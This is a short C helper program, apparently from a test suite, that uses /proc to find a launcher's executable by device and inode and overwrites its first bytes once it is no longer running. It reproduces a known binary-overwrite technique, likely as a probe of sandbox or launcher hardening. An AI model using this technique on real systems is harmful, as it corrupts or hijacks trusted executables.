/*
 * overwrite DEVICE:INODE: looks for that file, the launcher's, among the programs of all processes and among
 * what they have open; waits for it to be no longer in use, and writes over its first bytes. It touches no
 * other file.
 */
#include "way.h"

static unsigned long device, inode;
static int handle = -1;

static void look(const char *path) {
    struct stat found;
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0)
        return;
    if (handle < 0 && fstat(fd, &found) == 0 && S_ISREG(found.st_mode) && found.st_dev == device &&
        found.st_ino == inode)
        handle = fd;
    else
        close(fd);
}

static void look_at(const char *pid) {
    char path[600];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    look(path);
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *fds = opendir(path);
    for (struct dirent *entry; fds && (entry = readdir(fds));) {
        snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
        if (entry->d_name[0] != '.')
            look(path);
    }
    if (fds)
        closedir(fds);
}

int main(int argc, char **argv) {
    if (argc != 2 || sscanf(argv[1], "%lu:%lu", &device, &inode) != 2)
        return 2;
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes && (entry = readdir(processes));)
        if (atoi(entry->d_name) > 0)
            look_at(entry->d_name);
    if (handle < 0)
        held("no process has it");
    if (fork() > 0)
        return 0;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
    for (int wait = 0; wait < 100; wait++) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0)
            return write(fd, "overwritten", 11) != 11;
        usleep(10000);
    }
    held(path);
}
